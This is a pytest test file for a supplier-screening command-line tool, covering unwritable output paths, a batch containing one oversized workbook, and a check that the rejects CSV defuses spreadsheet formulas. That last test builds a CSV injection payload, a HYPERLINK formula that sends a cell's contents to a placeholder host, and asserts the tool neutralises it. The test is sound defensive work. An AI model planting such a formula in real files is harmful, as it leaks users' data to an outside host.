"""Issue 16, failures 5 and 8 through the CLI in-process: output paths that cannot be written,
a batch with one bad file, and a rejects file that is formula-safe."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hostile import one_error_line, row, run_cli, workbook


@pytest.fixture
def suppliers(tmp_path: Path) -> Path:
    path = tmp_path / "ok.csv"
    path.write_text("name,country\nAcme Trading Ltd,GB\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("under", [False, True])
def test_screen_out_naming_a_file_or_a_path_under_one(
    tmp_path: Path,
    suppliers: Path,
    under: bool,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    existing = tmp_path / "report.txt"
    existing.write_text("keep me", encoding="utf-8")
    out = existing / "sub" if under else existing
    code, _, err = run_cli(capsys, monkeypatch, "screen", str(suppliers), "--out", str(out))
    assert code == 2
    line = one_error_line(err)
    assert "--out" in line and ("which is a file" if under else "is a file, not a folder") in line
    assert existing.read_text(encoding="utf-8") == "keep me"


def test_match_out_under_a_file(
    tmp_path: Path,
    suppliers: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    code, _, err = run_cli(
        capsys,
        monkeypatch,
        "match",
        str(suppliers),
        "--reference",
        str(suppliers),
        "--out",
        str(suppliers / "x.csv"),
    )
    assert code == 2 and "--out" in one_error_line(err)


def test_screen_batch_good_files_go_through(
    tmp_path: Path,
    suppliers: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bad = workbook(tmp_path / "tall.xlsx", row(1, "name") + row(2_000_000_000, "X"))
    out = tmp_path / "out"
    code, _, err = run_cli(
        capsys, monkeypatch, "screen", str(bad), str(suppliers), "--out", str(out), "--quiet"
    )
    assert code == 2
    # What was read of the good file and the lists' dates come first; the bad file is one line.
    [line] = [line for line in err.splitlines() if line.startswith("error: ")]
    assert "tall.xlsx" in line and "row 2000000000" in line
    with (out / "results.csv").open(encoding="utf-8", newline="") as handle:
        screened = list(csv.DictReader(handle))
    assert len(screened) == 1 and "Acme Trading" in str(screened[0])


def test_rejects_file_is_formula_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?leak="&B2,"Arrival Date")'
    bills = tmp_path / "bills.csv"
    with bills.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Bill No", "Shipper", "Consignee", hostile])
        writer.writerow(["B1", "Acme Ltd", "Buyer Inc", "not a date"])
        writer.writerow(["B2", "Acme Ltd", "Buyer Inc", "2024-01-02"])
    code, _, err = run_cli(
        capsys, monkeypatch, "import", "shipments", str(bills), "--column", f"date={hostile}"
    )
    assert code == 0, err
    rejects = tmp_path / "bills.rejects.csv"
    with rejects.open(encoding="utf-8", newline="") as handle:
        lines = list(csv.reader(handle))
    cells = [cell for line in lines for cell in line]
    assert hostile not in cells
    assert "'" + hostile in lines[0]  # the header names it, defused
    assert lines[1][1] == "'" + hostile  # the `column` cell too
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
